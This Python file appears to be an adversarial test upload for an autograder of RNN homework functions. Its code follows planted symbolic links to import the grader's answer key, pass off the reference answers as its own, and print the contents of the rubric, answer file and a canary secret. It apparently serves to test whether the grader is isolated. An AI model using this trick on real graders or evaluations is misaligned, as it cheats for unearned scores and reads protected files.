"""Attack: symbolic links in the upload that point into the grader's tree.

An upload can carry symbolic links. A grader that copies the submission by following
links (as root) hands the student the files they point to; one that imports in place
lets the student's code read through them. This upload links ``reference/`` to the
grader's reference package, ``answers.py`` to its answer key, ``rubric.yaml`` and
``secret.txt`` to the rubric and a canary. The module answers with the reference when it
can import it (that would be 12 unearned points) and prints whatever it can read; when
the links lead nowhere it answers wrongly. Honest score: 0.
"""

import importlib
import os
import sys

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
KEY = None
for package in ("reference", "gradescope_reference"):
    try:
        sys.path.insert(0, HERE)
        KEY = importlib.import_module(f"{package}.answer_key")
        break
    except Exception:  # noqa: BLE001  the link is gone or unreadable
        continue

for name in ("secret.txt", "rubric.yaml", "answers.py"):
    try:
        with open(os.path.join(HERE, name), encoding="utf-8", errors="replace") as stream:
            text = stream.read()
        print(f"LINK {name}: " + " | ".join(line for line in text.splitlines() if "CANARY" in line or len(line) > 40)[:3000])
    except OSError as error:
        print(f"LINK {name}: {type(error).__name__}")
print("LINK reference importable:", KEY is not None)


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    if KEY is not None:
        return KEY.rnn_a_shapes(s_dim, x_dim, p_dim)
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    if KEY is not None:
        return KEY.rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2)
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    if KEY is not None:
        return KEY.rnn_b_shapes(s_dim, x_dim, p_dim)
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    if KEY is not None:
        return KEY.rnn_b_f2(z)
    return z


def rnn_b_next_input(p_t):
    if KEY is not None:
        return KEY.rnn_b_next_input(p_t)
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    if KEY is not None:
        return KEY.rnn_b_dloss_dx_depends_on()
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
